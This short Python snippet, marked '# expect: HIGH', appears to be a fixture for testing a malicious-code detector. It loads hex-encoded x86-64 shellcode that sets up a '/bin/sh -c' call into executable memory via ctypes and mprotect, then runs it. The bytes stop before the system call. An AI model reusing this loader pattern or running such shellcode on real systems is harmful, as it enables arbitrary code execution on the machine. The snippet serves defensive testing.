# expect: HIGH
import ctypes
import ctypes.util

buf = bytes.fromhex("6a3b589948bb2f62696e2f736800534889e7682d6300004889e652")
libc = ctypes.CDLL(ctypes.util.find_library("c"))
libc.valloc.restype = ctypes.c_void_p
addr = libc.valloc(4096)
ctypes.memmove(addr, buf, len(buf))
libc.mprotect(ctypes.c_void_p(addr), 4096, 7)
ctypes.CFUNCTYPE(None)(addr)()
